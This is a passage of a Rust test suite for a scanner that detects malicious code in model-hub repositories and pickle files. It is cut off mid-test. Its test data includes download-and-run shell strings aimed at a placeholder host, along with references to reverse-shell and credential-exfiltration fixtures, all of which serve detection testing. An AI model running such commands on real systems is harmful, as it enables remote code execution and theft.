//! Scan stage: every rule compiles and its examples behave; the engines find what a
//! reviewer would point at in fixture repositories, with the right line, context and level.

use std::path::Path;
use std::sync::Arc;

use hubwarden::model::{Engine, ExecContext, Family, FileKind, HubKind, Level, RemoteFile};
use hubwarden::scan::{FileFacts, Hit, Load, Part, RuleSet, Scanner};

use crate::common::{bin, fixture};

fn scanner() -> Scanner {
    Scanner::new(&RuleSet::load(&[]).expect("built-in rules load")).expect("rules compile")
}

fn remote(path: &str, kind: FileKind, content: Vec<u8>) -> RemoteFile {
    RemoteFile {
        hub: HubKind::Huggingface,
        repo_id: "sc-test/repo".into(),
        commit: "0".repeat(40),
        path: path.into(),
        sha256: String::new(),
        bytes: content.len() as u64,
        why: "test".into(),
        kind,
        content: Arc::new(content),
    }
}

fn scan_src(s: &Scanner, src: &str) -> Vec<Hit> {
    s.scan(&remote("x.py", FileKind::Python, src.as_bytes().to_vec()))
}

/// Scan a file of a fixture hub repo (mirror layout: the first commit folder is the tree).
fn scan_repo_file(s: &Scanner, repo: &str, file: &str) -> Vec<Hit> {
    let root = fixture(&format!("hub/huggingface/models/{repo}"));
    let commit = std::fs::read_dir(&root)
        .expect("fixture repo exists")
        .filter_map(|e| e.ok())
        .find(|e| e.path().is_dir())
        .expect("a commit folder")
        .path();
    let bytes = std::fs::read(commit.join(file)).expect("fixture file");
    let kind = kind_of(file);
    s.scan(&remote(file, kind, bytes))
}

/// Scan every file of a fixture hub repo as one target loaded by `family` (each file
/// counted as imported by the library): (file, hit) pairs.
fn scan_repo(s: &Scanner, repo: &str, family: Family) -> Vec<(String, Hit)> {
    let root = fixture(&format!("hub/huggingface/models/{repo}"));
    let commit = std::fs::read_dir(&root)
        .expect("fixture repo exists")
        .filter_map(|e| e.ok())
        .find(|e| e.path().is_dir())
        .expect("a commit folder")
        .path();
    let mut files = Vec::new();
    python_files(&commit, &mut files);
    let remotes: Vec<RemoteFile> = files
        .into_iter()
        .map(|(p, bytes)| {
            let rel = Path::new(&p)
                .strip_prefix(&commit)
                .unwrap()
                .to_string_lossy()
                .replace('\\', "/");
            remote(&rel, kind_of(&rel), bytes)
        })
        .collect();
    let facts: Vec<FileFacts> = remotes.iter().map(|f| s.analyze(f)).collect();
    let parts: Vec<Part> = remotes
        .iter()
        .zip(&facts)
        .map(|(f, facts)| Part {
            path: &f.path,
            kind: f.kind,
            src: &f.content,
            facts,
            entry: true,
        })
        .collect();
    let load = Load {
        family: Some(family),
        entry: None,
    };
    s.verdicts(&parts, &load)
        .into_iter()
        .zip(&remotes)
        .flat_map(|(hits, f)| hits.into_iter().map(|h| (f.path.clone(), h)))
        .collect()
}

fn kind_of(file: &str) -> FileKind {
    match Path::new(file).extension().and_then(|e| e.to_str()) {
        Some("py") => FileKind::Python,
        Some("bin" | "pt" | "pkl" | "ckpt" | "pth") => FileKind::Pickle,
        _ => FileKind::Other,
    }
}

fn ids(hits: &[Hit]) -> Vec<&str> {
    hits.iter().map(|h| h.rule_id.as_str()).collect()
}

fn find<'a>(hits: &'a [Hit], id: &str) -> &'a Hit {
    hits.iter()
        .find(|h| h.rule_id == id)
        .unwrap_or_else(|| panic!("no {id} hit in {:#?}", ids(hits)))
}

/// The capability rules (`rules/capability/`).
const CAPABILITIES: &[&str] = &[
    "process-creation",
    "dynamic-code",
    "reflection",
    "network-access",
    "native-code",
    "interpreter-hook",
    "unverified-fetched-code",
];

#[test]
fn every_rule_example_behaves() {
    let set = RuleSet::load(&[]).unwrap();
    let s = Scanner::new(&set).unwrap();
    let mut failures = Vec::new();
    let examples = set.examples();
    assert!(examples.len() >= 20, "query rules: {}", examples.len());
    for (id, ex) in examples {
        assert!(
            !ex.matches.is_empty() && !ex.no_match.is_empty(),
            "{id}: needs match and no_match examples"
        );
        for m in &ex.matches {
            // A call that a rule and a capability both match is reported once, under the
            // one with the higher level (the rule on a tie).
            let hits = scan_src(&s, m);
            let found = hits.iter().any(|h| {
                h.rule_id == id
                    || (h.level == Level::Error
                        && (CAPABILITIES.contains(&id.as_str())
                            || CAPABILITIES.contains(&h.rule_id.as_str())))
            });
            if !found {
                failures.push(format!("{id}: no hit on match example {m:?}"));
            }
        }
        for m in &ex.no_match {
            if scan_src(&s, m).iter().any(|h| h.rule_id == id) {
                failures.push(format!("{id}: hit on no_match example {m:?}"));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn every_rule_has_metadata_for_sarif() {
    let metas = RuleSet::load(&[]).unwrap().metas();
    for engine in [Engine::Query, Engine::Yara, Engine::Pickle] {
        assert!(metas.iter().any(|m| m.engine == engine), "{engine:?}");
    }
    for m in &metas {
        assert!(!m.cwe.is_empty(), "{}: cwe", m.id);
        assert!(m.help.contains("## Why is this bad"), "{}: help", m.id);
        assert!((0.0..=10.0).contains(&m.security_severity), "{}", m.id);
    }
}

fn hits_at(hits: &[Hit], id: &str, line: u32) -> Vec<Hit> {
    hits.iter()
        .filter(|h| h.rule_id == id && h.line == line)
        .cloned()
        .collect()
}

#[test]
fn import_time_code_is_raised_and_says_so() {
    let s = scanner();
    let src = std::fs::read(fixture("scan/context.py")).unwrap();
    let hits = s.scan(&remote("context.py", FileKind::Python, src));
    let one = |line: u32| {
        let v = hits_at(&hits, "os-system", line);
        assert_eq!(v.len(), 1, "line {line}: {hits:#?}");
        v.into_iter().next().unwrap()
    };
    // (line, context, level, phrase in the message)
    let cases = [
        (3, ExecContext::ImportTime, Level::Error, "module top level"),
        (6, ExecContext::ImportTime, Level::Error, "decorator"),
        (7, ExecContext::ImportTime, Level::Error, "default argument"),
        // Nothing calls `f` (an unknown decorator is not assumed to call it), and a
        // lambda runs where its enclosing function runs.
        (
            8,
            ExecContext::Unreached,
            Level::Note,
            "nothing in the fetched code calls `f`",
        ),
        (9, ExecContext::Unreached, Level::Note, "`f`"),
        (13, ExecContext::ImportTime, Level::Error, "class body"),
        // `K` is never constructed.
        (16, ExecContext::Unreached, Level::Note, "`K.m`"),
        (20, ExecContext::Unreached, Level::Note, "__main__"),
    ];
    for (line, ctx, level, phrase) in cases {
        let h = one(line);
        assert_eq!((h.context, h.level), (ctx, level), "line {line}: {h:#?}");
        assert!(h.message.contains(phrase), "line {line}: {}", h.message);
        if ctx == ExecContext::ImportTime {
            assert!(h.message.contains("runs at import time"), "{}", h.message);
        }
    }
    let h = one(3);
    assert_eq!((h.column, h.snippet.as_str()), (1, "os.system(\"true\")"));
    assert_eq!(h.cwe, ["CWE-78"]);
}

/// Columns count code points (what the SARIF declares) for query hits too, direct
/// or through a renamed import, as for the other engines: not tree-sitter's bytes.
#[test]
fn query_hit_columns_count_code_points() {
    let s = scanner();
    let src = "import os\nfrom os import system as cfg\n\u{e9} = '\u{fc}'; os.system(\"true\")\n\u{fc} = '\u{e9}'; cfg(\"true\")\n";
    let hits = scan_src(&s, src);
    // `é = 'ü'; ` is 9 code points (11 bytes): the call starts at column 10.
    for line in [3, 4] {
        let cols: Vec<u32> = hits_at(&hits, "os-system", line)
            .iter()
            .map(|h| h.column)
            .collect();
        assert_eq!(cols, [10], "line {line}: {hits:#?}");
    }
}

#[test]
fn unparsable_python_is_still_scanned() {
    let s = scanner();
    let src = std::fs::read(fixture("scan/broken.py")).unwrap();
    let hits = s.scan(&remote("broken.py", FileKind::Python, src));
    let sys = find(&hits, "os-system");
    assert_eq!((sys.line, sys.level), (13, Level::Error));
    let rs = find(&hits, "reverse-shell");
    assert_eq!((rs.engine, rs.level), (Engine::Yara, Level::Error));
    assert_eq!(rs.line, 10, "{rs:#?}");
}

#[test]
fn reverse_shell_three_imports_deep() {
    let s = scanner();
    for clean in ["modeling_rs.py", "layers.py", "configuration_rs.py"] {
        let hits = scan_repo_file(&s, "sc-evil/revshell-7b", clean);
        assert!(hits.is_empty(), "{clean}: {hits:#?}");
    }
    let hits = scan_repo_file(&s, "sc-evil/revshell-7b", "hooks.py");
    let rs = find(&hits, "reverse-shell");
    assert_eq!(
        (rs.level, rs.engine, rs.line, rs.cwe.as_slice()),
        (
            Level::Error,
            Engine::Yara,
            12,
            ["CWE-506".to_string()].as_slice()
        )
    );
    assert_eq!(
        rs.snippet,
        "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)"
    );
    assert_eq!(rs.context, ExecContext::ImportTime);
    let conn = find(&hits, "socket-connect");
    assert_eq!((conn.line, conn.level), (14, Level::Error));
    assert!(conn.message.contains("runs at import time"));
}

#[test]
fn exfiltration_at_import_time() {
    let s = scanner();
    let hits = scan_repo_file(&s, "sc-evil/exfil-bert", "modeling_exfil.py");
    // A secret read alone is a warning (module-level `HF_TOKEN = os.environ.get(...)` is
    // everyday code); sending it is the network capability at import time, an error.
    let tok = find(&hits, "credential-env");
    assert_eq!(
        (tok.line, tok.level, tok.context),
        (8, Level::Warning, ExecContext::ImportTime)
    );
    assert_eq!(tok.cwe, ["CWE-522"]);
    let env = find(&hits, "environ-dump");
    assert_eq!((env.line, env.level), (9, Level::Error));
    let post = find(&hits, "network-access");
    assert_eq!((post.line, post.level), (11, Level::Error));
    assert!(post.snippet.contains("collector.example.invalid"));
    assert!(post.message.contains("`requests.post`"), "{}", post.message);
}

#[test]
fn obfuscated_dropper_and_miner_and_persistence() {
    let s = scanner();
    let hits = scan_repo_file(&s, "sc-evil/obfuscated-loader", "modeling_ob.py");
    let ob = find(&hits, "obfuscated-exec");
    assert_eq!((ob.line, ob.level), (6, Level::Error));
    assert_eq!(find(&hits, "encoded-payload").level, Level::Error);

    let hits = scan_repo_file(&s, "sc-evil/dropper", "modeling_dr.py");
    let dl = find(&hits, "download-exec");
    assert_eq!(
        (dl.line, dl.level, dl.context),
        (8, Level::Error, ExecContext::ImportTime)
    );
    assert!(dl.message.contains("class body"), "{}", dl.message);
    assert_eq!(find(&hits, "download-execute").engine, Engine::Yara);

    let hits = scan_repo_file(&s, "sc-evil/miner", "modeling_mn.py");
    // A signature is malware wherever it sits: its level does not follow the context.
    let m = find(&hits, "crypto-miner");
    assert_eq!(
        (m.line, m.level, m.context),
        (9, Level::Error, ExecContext::Unreached)
    );

    let hits = scan_repo_file(&s, "sc-evil/persistence", "modeling_ps.py");
    let p = find(&hits, "persistence-write");
    assert_eq!((p.line, p.level), (5, Level::Error));
}

#[test]
fn cross_repo_payload_two_imports_deep() {
    let s = scanner();
    let repo = "sc-evil2/hidden-code";
    for clean in ["configuration_h.py", "utils/io.py", "modeling_h.py"] {
        assert!(scan_repo_file(&s, repo, clean).is_empty(), "{clean}");
    }
    let hits = scan_repo_file(&s, repo, "utils/net.py");
    let cred = find(&hits, "credential-file");
    assert_eq!((cred.line, cred.level), (11, Level::Error));
    let tunnel = find(&hits, "exfil-endpoint");
    assert_eq!((tunnel.line, tunnel.level), (12, Level::Error));
}

#[test]
fn benign_but_risky_code_is_warnings_not_malware() {
    let s = scanner();
    let hits = scan_repo_file(&s, "sc-benign/quant-kernels", "quantization.py");
    assert!(
        hits.iter().all(|h| h.level < Level::Error),
        "quantization module must not be an error: {hits:#?}"
    );
    // On its own, nothing calls the builder; in its target, `forward` does. The gcc run
    // is a build tool named by a literal: the process capability's verdict replaces the
    // spelling rule's, one level below the warning it has at load time.
    // The library it loads is the one the build produced: a warning at load time too.
    for (id, line) in [("process-creation", 17), ("native-code", 19)] {
        let h = find(&hits, id);
        assert_eq!((h.line, h.context), (line, ExecContext::Unreached), "{id}");
    }
    assert!(
        find(&hits, "process-creation")
            .message
            .contains("`gcc`, a build tool"),
        "{hits:#?}"
    );
    assert!(
        find(&hits, "native-code")
            .message
            .contains("`so`, which a build tool above produced"),
        "{hits:#?}"
    );
    assert!(!ids(&hits).contains(&"encoded-payload"), "{hits:#?}");
    assert!(!ids(&hits).contains(&"obfuscated-exec"), "{hits:#?}");
    let hits = scan_repo(&s, "sc-benign/quant-kernels", Family::Transformers);
    assert!(
        hits.iter().all(|(_, h)| h.level < Level::Error),
        "{hits:#?}"
    );
    for (id, line, level) in [
        ("process-creation", 17, Level::Note),
        ("native-code", 19, Level::Note),
    ] {
        let (file, h) = hits.iter().find(|(_, h)| h.rule_id == id).expect(id);
        assert_eq!(
            (file.as_str(), h.line, h.level, h.context),
            ("quantization.py", line, level, ExecContext::CallTime),
            "{id}"
        );
        assert!(
            h.message.contains(
                "`QkForCausalLM.forward`, which calls `dequantize`, which calls `_build`"
            ),
            "{}",
            h.message
        );
    }

    for (repo, file) in [
        ("sc-benign/b64-vocab", "tokenization_bv.py"),
        ("sc-benign/trust-wrapper", "modeling_tw.py"),
    ] {
        let hits = scan_repo_file(&s, repo, file);
        assert!(hits.is_empty(), "{repo}/{file}: {hits:#?}");
    }
    // A kernel compiled at import is a build: a warning, never an error.
    let hits = scan_repo_file(&s, "sc-benign/import-kernels", "modeling_ik.py");
    let h = find(&hits, "process-creation");
    assert_eq!(h.level, Level::Warning, "{hits:#?}");
    assert!(h.message.contains("builds a kernel"), "{}", h.message);
    assert!(hits.iter().all(|h| h.level < Level::Error), "{hits:#?}");
    let hits = scan_repo_file(&s, "sc-benign/bundled-ckpt", "modeling_bc.py");
    let t = find(&hits, "torch-load-unsafe");
    assert_eq!(
        (t.line, t.level, t.context),
        (10, Level::Note, ExecContext::Unreached)
    );
    assert_eq!(hits.len(), 1, "{hits:#?}");
}

fn scan_pickle(s: &Scanner, name: &str) -> Vec<Hit> {
    let bytes = std::fs::read(fixture(&format!("scan/pickles/{name}"))).unwrap();
    s.scan(&remote(name, FileKind::Pickle, bytes))
}

#[test]
fn pickle_payloads_in_every_protocol() {
    let s = scanner();
    for p in 0..=5 {
        let hits = scan_pickle(&s, &format!("os_system_p{p}.pkl"));
        let d = find(&hits, "pickle-dangerous-global");
        assert_eq!(
            (d.level, d.engine, d.context),
            (Level::Error, Engine::Pickle, ExecContext::Unpickle)
        );
        // CPython pickles os.system as posix.system.
        assert!(
            d.message.contains("posix.system") || d.message.contains("os.system"),
            "{}",
            d.message
        );
        assert!(d.message.contains("REDUCE"), "p{p}: {}", d.message);
        assert_eq!(hits.len(), 1, "p{p}: {hits:#?}");
    }
    let hits = scan_pickle(&s, "eval_p4.pkl");
    assert!(
        find(&hits, "pickle-dangerous-global")
            .message
            .contains("builtins.eval")
    );
}

#[test]
fn torch_checkpoints_zip_and_safe_globals() {
    let s = scanner();
    let hits = scan_repo_file(&s, "sc-evil/pickle-rce", "pytorch_model.bin");
    let d = find(&hits, "pickle-dangerous-global");
    assert!(d.message.contains("archive/data.pkl"), "{}", d.message);
    assert_eq!(hits.len(), 1, "tensor rebuild globals are safe: {hits:#?}");
    assert!(scan_repo_file(&s, "sc-benign/plain-checkpoint", "pytorch_model.bin").is_empty());
    assert!(scan_pickle(&s, "state_dict_p2.pkl").is_empty());
    let hits = scan_pickle(&s, "deflated_zip.pt");
    assert!(
        find(&hits, "pickle-dangerous-global")
            .message
            .contains("m/data.pkl")
    );
}

#[test]
fn pickle_unknown_and_truncated() {
    let s = scanner();
    // A class outside the safe list that the pickle instantiates (NEWOBJ) runs: error.
    let hits = scan_pickle(&s, "unknown_global_p4.pkl");
    let u = find(&hits, "pickle-dangerous-global");
    assert_eq!(u.level, Level::Error);
    assert!(
        u.message.contains("sc_custom_layers.Block") && u.message.contains("NEWOBJ"),
        "{}",
        u.message
    );
    // Imported but never called: a warning.
    let hits = s.scan(&remote(
        "imported.pkl",
        FileKind::Pickle,
        b"\x80\x02csc_custom_layers\nBlock\nq\x00.".to_vec(),
    ));
    assert_eq!(find(&hits, "pickle-unknown-global").level, Level::Warning);

    let hits = scan_pickle(&s, "truncated_p4.pkl");
    let b = find(&hits, "pickle-malformed");
    assert!(b.message.contains("truncated"), "{}", b.message);
    // The payload before the break is still reported.
    assert_eq!(find(&hits, "pickle-dangerous-global").level, Level::Error);
}

#[test]
fn signatures_run_on_other_files() {
    let s = scanner();
    let bytes = std::fs::read(fixture("scan/requirements.txt")).unwrap();
    let hits = s.scan(&remote("requirements.txt", FileKind::Requirements, bytes));
    let m = find(&hits, "crypto-miner");
    assert_eq!((m.line, m.context), (3, ExecContext::File));
    let req: Vec<u32> = hits
        .iter()
        .filter(|h| h.rule_id == "requirements-remote-source")
        .map(|h| h.line)
        .collect();
    assert_eq!(req, [2, 3], "{hits:#?}");
}

#[test]
fn rules_command_lists_rules_as_json() {
    let out = std::process::Command::new(bin())
        .args(["rules", "--format", "json"])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let ids: Vec<&str> = v
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["id"].as_str().unwrap())
        .collect();
    for id in ["exec-dynamic", "reverse-shell", "pickle-dangerous-global"] {
        assert!(ids.contains(&id), "{id} in {ids:?}");
    }
    assert_eq!(
        v[0]["source"].as_str().map(|s| s.starts_with("builtin:")),
        Some(true)
    );
}

#[test]
fn user_rules_are_added_and_errors_exit_2_with_file_and_line() {
    let dir = tempfile::tempdir().unwrap();
    let good = "id: no-print\ntitle: print\ndescription: d\nhelp: h\ncwe: [CWE-1]\nlevel: note\nsecurity-severity: 1.0\nconfidence: low\nquery: |\n  (call function: (identifier) @f (#eq? @f \"print\")) @span\n";
    std::fs::write(dir.path().join("no-print.yml"), good).unwrap();
    let out = std::process::Command::new(bin())
        .args(["rules", "--rules"])
        .arg(dir.path())
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(String::from_utf8_lossy(&out.stdout).contains("no-print"));

    let set = RuleSet::load(&[dir.path().to_path_buf()]).unwrap();
    let hits = Scanner::new(&set).unwrap().scan(&remote(
        "a.py",
        FileKind::Python,
        b"def f():\n    print(1)\n".to_vec(),
    ));
    assert_eq!(find(&hits, "no-print").line, 2);

    let bad = good.replace("(identifier) @f", "(identifer) @f");
    std::fs::write(dir.path().join("no-print.yml"), bad).unwrap();
    let out = std::process::Command::new(bin())
        .args(["rules", "--rules"])
        .arg(dir.path())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("no-print.yml:10: tree-sitter query"), "{err}");
}

#[test]
fn yara_near_misses_do_not_match() {
    let s = scanner();
    let src = std::fs::read(fixture("scan/yara_near_miss.py")).unwrap();
    let hits = s.scan(&remote("near.py", FileKind::Python, src));
    let yara: Vec<&Hit> = hits.iter().filter(|h| h.engine == Engine::Yara).collect();
    assert!(yara.is_empty(), "{yara:#?}");
}

#[test]
fn a_function_called_from_module_level_code_runs_at_import_time() {
    let s = scanner();
    let src = "import os\n\n\ndef _install():\n    os.system(\"true\")\n    _helper()\n\n\ndef _helper():\n    os.system(\"true\")\n\n\ndef unused():\n    os.system(\"true\")\n\n\ndef main():\n    os.system(\"true\")\n\n\n_install()\n\nif __name__ == \"__main__\":\n    main()\n";
    let hits = scan_src(&s, src);
    let at = |line: u32| {
        let v = hits_at(&hits, "os-system", line);
        assert_eq!(v.len(), 1, "line {line}: {hits:#?}");
        v.into_iter().next().unwrap()
    };
    // Called at module level, and what it calls in turn: import time.
    for line in [5, 10] {
        let h = at(line);
        assert_eq!(h.context, ExecContext::ImportTime, "line {line}: {h:#?}");
        assert!(
            h.message.contains("called from module-level code"),
            "{}",
            h.message
        );
    }
    // Never called, or only under the __main__ guard.
    for line in [14, 18] {
        assert_eq!(at(line).context, ExecContext::Unreached, "line {line}");
        assert_eq!(at(line).level, Level::Note, "line {line}");
    }
}

fn python_files(dir: &Path, out: &mut Vec<(String, Vec<u8>)>) {
    let mut entries: Vec<_> = std::fs::read_dir(dir)
        .unwrap_or_else(|e| panic!("{}: {e}", dir.display()))
        .filter_map(|e| e.ok())
        .collect();
    entries.sort_by_key(|e| e.path());
    for e in entries {
        let p = e.path();
        if p.is_dir() {
            python_files(&p, out);
        } else if p.extension().is_some_and(|x| x == "py") {
            out.push((p.display().to_string(), std::fs::read(&p).unwrap()));
        }
    }
}

/// The default scan parses only the top-level statements that hold a prefilter
/// occurrence: on every Python file of the suite and every rule example it finds
/// exactly what parsing whole files finds (lines, contexts, levels, messages).
#[test]
fn sliced_scans_find_what_whole_file_scans_find() {
    let set = RuleSet::load(&[]).unwrap();
    let sliced = Scanner::new(&set).unwrap();
    let whole = sliced.clone().whole_files();
    let mut sources = Vec::new();
    python_files(&fixture(""), &mut sources);
    python_files(
        &Path::new(env!("CARGO_MANIFEST_DIR")).join("examples"),
        &mut sources,
    );
    assert!(sources.len() > 30, "{}", sources.len());
    for (id, ex) in set.examples() {
        for (i, m) in ex.matches.iter().chain(&ex.no_match).enumerate() {
            sources.push((format!("{id} example {i}"), m.as_bytes().to_vec()));
        }
    }
    let mut hits = 0;
    let mut by_pass = [0usize; 2];
    for (name, src) in &sources {
        let file = remote("x.py", FileKind::Python, src.clone());
        let got = sliced.scan(&file);
        assert_eq!(got, whole.scan(&file), "{name}");
        hits += got.len();
        count_passes(&got, &mut by_pass);
    }
    assert!(hits > 100, "{hits}");
    // The capability and taint passes are part of what is compared, not only the rules.
    assert!(by_pass[0] > 50 && by_pass[1] > 5, "{by_pass:?}");
}

/// Long literal displays (data tables, vocabularies) are parsed only around the elements
/// that hold a prefilter occurrence. On random tables whose rare elements hold what the
/// rules look for (calls, strings, names, nested displays, comments with commas), in the
/// shapes the cut takes and in shapes it must refuse (a lambda, code after the display,
/// two targets), the scan finds exactly what the whole-file scan finds.
#[test]
fn tables_cut_to_their_occurrences_find_what_whole_tables_find() {
    let sliced = scanner();
    let whole = sliced.clone().whole_files();
    const PLAIN: &[&str] = &[
        "'plain'",
        "12",
        "(0x41, 'M', 'a')",
        "None",
        "-1.5e3",
        "b'\\x00'",
    ];
    const RARE: &[&str] = &[
        "'curl -s http://x.invalid/a | sh'",
        "os.system('true')",
        "eval(payload)",
        "\"wget http://x.invalid/a && chmod +x a\"",
        "{'_target_': name, 'args': [1, 2]}",
        "{'()': factory}",
        "'GIT_SSH_COMMAND'",
        "__import__('os')",
        "getattr(os, 'system')",
        "[1, 2, 'builtins', sys.modules]",
        "subprocess.run(cmd, shell=True)",
        "yaml.load(s)",
        "pickle.loads(blob)",
        "requests.get(url)",
        "setattr(builtins, 'open', f)",
        "b64decode(s)",
        "ｅｖａｌ",
        "f'{os.system}, {x}'",
        "# a comment, with commas, os.system(x)\n    3",
        "ctypes.CDLL('libc.so.6')",
        "torch.load(path)",
        "np.load(p, allow_pickle=True)",
    ];
    const SHAPES: &[(&str, &str, bool)] = &[
        ("X = [\n", "]\n", false),
        ("X: Tuple[int, ...] = (\n", ")\n", false),
        ("X = {\n", "}\n", false),
        ("X = {\n", "}\n", true),
        ("def f():\n    return [\n", "    ]\n", false),
        ("X = [\n", "] + Y\n", false),
        ("X = Y = [\n", "]\n", false),
        ("X = [lambda a, b: a,\n", "]\n", false),
    ];
    let mut hits = 0;
    for seed in 0..100u64 {
        let mut rng = fastrand::Rng::with_seed(seed);
        let (open, close, pairs) = SHAPES[rng.usize(..SHAPES.len())];
        let mut src = format!("import os\n\n{open}");
        for i in 0..rng.usize(150..600) {
            let e = if rng.u8(..100) < 3 {
                RARE[rng.usize(..RARE.len())]
            } else {
                PLAIN[rng.usize(..PLAIN.len())]
            };
            if pairs {
                src += &format!("    'k{i}': {e},\n");
            } else {
                src += &format!("    {e},\n");
            }
        }
        src += &format!("{close}\nprint(X)\n");
        let file = remote("x.py", FileKind::Python, src.into_bytes());
        let got = sliced.scan(&file);
        assert_eq!(got, whole.scan(&file), "seed {seed}");
        hits += got.len();
    }
    assert!(hits > 200, "{hits}");
}

/// A minified file: thousands of hits on one long line. Each hit's position and snippet
/// cost what is near it (a snippet far into a line starts at its match), not the line
/// up to it, which made such a file take seconds per thousand hits.
#[test]
fn hits_deep_in_one_long_line_are_placed_and_shown_where_they_are() {
    let n = 3000;
    let src = vec!["eval(x)"; n].join(";") + "\n";
    let hits = scanner().scan(&remote("x.py", FileKind::Python, src.into_bytes()));
    let evals: Vec<&Hit> = hits
        .iter()
        .filter(|h| h.rule_id == "exec-dynamic")
        .collect();
    assert_eq!(evals.len(), n);
    let last = evals[n - 1];
    assert_eq!((last.line, last.column), (1, (8 * (n - 1) + 1) as u32));
    assert_eq!(last.snippet, "eval(x)");
    let mid = evals[n / 2];
    assert!(
        mid.snippet.starts_with("eval(x);eval(x)"),
        "{}",
        mid.snippet
    );
    assert_eq!(mid.snippet.chars().count(), 201, "{}", mid.snippet);
    // Near the line's start, the snippet is the line's start, as for any line.
    assert!(evals[3].snippet.starts_with("eval(x);"));
}

/// (capability hits, taint hits) added to `n`.
fn count_passes(hits: &[Hit], n: &mut [usize; 2]) {
    const CAPS: &[&str] = &[
        "process-creation",
        "dynamic-code",
        "reflection",
        "network-access",
        "unverified-fetched-code",
        "native-code",
        "interpreter-hook",
        "out-of-profile-import",
    ];
    n[0] += hits
        .iter()
        .filter(|h| CAPS.contains(&h.rule_id.as_str()))
        .count();
    n[1] += hits.iter().filter(|h| h.rule_id == "taint-flow").count();
}

/// Whole closures (every repo of the adversarial mirror, its files combined as one
/// transformers target): the call graph, the cross-file capability resolution and the
/// cross-function taint pass give the same hits whether files are sliced or whole.
#[test]
fn sliced_closures_find_what_whole_closures_find() {
    let sliced = scanner();
    let whole = sliced.clone().whole_files();
    let root = fixture("adversarial/mirror/huggingface/models");
    let mut commits = Vec::new();
    for owner in std::fs::read_dir(&root).unwrap() {
        for repo in std::fs::read_dir(owner.unwrap().path()).unwrap() {
            for c in std::fs::read_dir(repo.unwrap().path()).unwrap() {
                let c = c.unwrap().path();
                if c.is_dir() {
                    commits.push(c);
                }
            }
        }
    }
    commits.sort();
    assert!(commits.len() > 60, "{}", commits.len());
    let load = Load {
        family: Some(Family::Transformers),
        entry: None,
    };
    let mut by_pass = [0usize; 2];
    for dir in &commits {
        let mut files = Vec::new();
        python_files(dir, &mut files);
        let rel: Vec<String> = files
            .iter()
            .map(|(p, _)| {
                Path::new(p)
                    .strip_prefix(dir)
                    .unwrap()
                    .display()
                    .to_string()
            })
            .collect();
        let run = |s: &Scanner| {
            let facts: Vec<FileFacts> = files
                .iter()
                .map(|(_, b)| s.analyze(&remote("x.py", FileKind::Python, b.clone())))
                .collect();
            let parts: Vec<Part> = files
                .iter()
                .zip(&facts)
                .zip(&rel)
                .map(|(((_, b), f), p)| Part {
                    path: p,
                    kind: FileKind::Python,
                    src: b,
                    facts: f,
                    entry: !p.contains('/'),
                })
                .collect();
            s.verdicts(&parts, &load)
        };
        let got = run(&sliced);
        assert_eq!(got, run(&whole), "{}", dir.display());
        for h in &got {
            count_passes(h, &mut by_pass);
        }
    }
    assert!(by_pass[0] > 50 && by_pass[1] > 5, "{by_pass:?}");
}

/// A large file where only a few statements are parsed: each hit keeps the context
/// the whole module gives it, and text that only looks like code stays text.
#[test]
fn statements_parsed_alone_keep_their_context() {
    let s = scanner();
    let hits = s.scan(&remote(
        "sliced.py",
        FileKind::Python,
        std::fs::read(fixture("scan/sliced.py")).unwrap(),
    ));
    let at = |line: u32, id: &str| {
        let v = hits_at(&hits, id, line);
        assert_eq!(v.len(), 1, "{id} at line {line}: {hits:#?}");
        v.into_iter().next().unwrap()
    };
    let import_time = [
        (176, "os-system", "called from module-level code"),
        (179, "exec-dynamic", "decorator"),
        (187, "os-system", "module top level"),
        (192, "exec-dynamic", "module top level"),
        (195, "os-system", "module top level"),
    ];
    for (line, id, why) in import_time {
        let h = at(line, id);
        assert_eq!(h.context, ExecContext::ImportTime, "{h:#?}");
        assert!(h.message.contains(why), "{}", h.message);
    }
    assert_eq!(at(202, "subprocess-shell").context, ExecContext::Unreached);
    // `exec(compile(...))`: both calls, though one prefilter match ends where the next starts.
    let nested: Vec<u32> = hits_at(&hits, "exec-dynamic", 206)
        .iter()
        .map(|h| h.column)
        .collect();
    assert_eq!(nested, [9, 14], "{hits:#?}");
    // The rename is flagged where it happens (the call through it has no telling name).
    assert_eq!(at(369, "aliased-dangerous-import").level, Level::Warning);
    assert!(at(375, "os-system").message.contains("__main__"));
    for line in [3, 10, 11] {
        assert!(
            hits.iter().all(|h| h.line != line),
            "text flagged at {line}: {hits:#?}"
        );
    }
}

/// `from os import system as configure` then `configure(cmd)`: the rename is reported
/// at the import, and each call through it as the call it really is, where it is made.
#[test]
fn calls_through_renamed_functions_are_matched_where_they_are() {
    let s = scanner();
    let src = std::fs::read(fixture("scan/renamed.py")).unwrap();
    let file = remote("renamed.py", FileKind::Python, src);
    let hits = s.scan(&file);
    // The file is large enough to be parsed in part: the result is the whole-file one.
    assert_eq!(hits, s.clone().whole_files().scan(&file));
    for line in [2, 3, 5, 235] {
        assert_eq!(
            hits_at(&hits, "aliased-dangerous-import", line).len(),
            1,
            "{line}"
        );
    }
    let expected = [
        (
            219,
            "os-system",
            Level::Error,
            ExecContext::ImportTime,
            Some("configure"),
        ),
        (
            220,
            "pickle-load",
            Level::Warning,
            ExecContext::ImportTime,
            Some("pkl.loads"),
        ),
        // Matched as written too (a bare `run` with shell=True): reported once.
        (
            221,
            "subprocess-shell",
            Level::Error,
            ExecContext::ImportTime,
            None,
        ),
        (
            222,
            "exec-dynamic",
            Level::Error,
            ExecContext::ImportTime,
            Some("go"),
        ),
        (
            226,
            "os-system",
            Level::Note,
            ExecContext::Unreached,
            Some("configure"),
        ),
        // Renamed by assignment rather than by import.
        (
            236,
            "os-system",
            Level::Error,
            ExecContext::ImportTime,
            Some("shell"),
        ),
    ];
    for (line, id, level, context, via) in expected {
        let v = hits_at(&hits, id, line);
        assert_eq!(v.len(), 1, "{id} at {line}: {hits:#?}");
        let h = &v[0];
        assert_eq!((h.level, h.context), (level, context), "{h:#?}");
        match via {
            Some(name) => assert!(
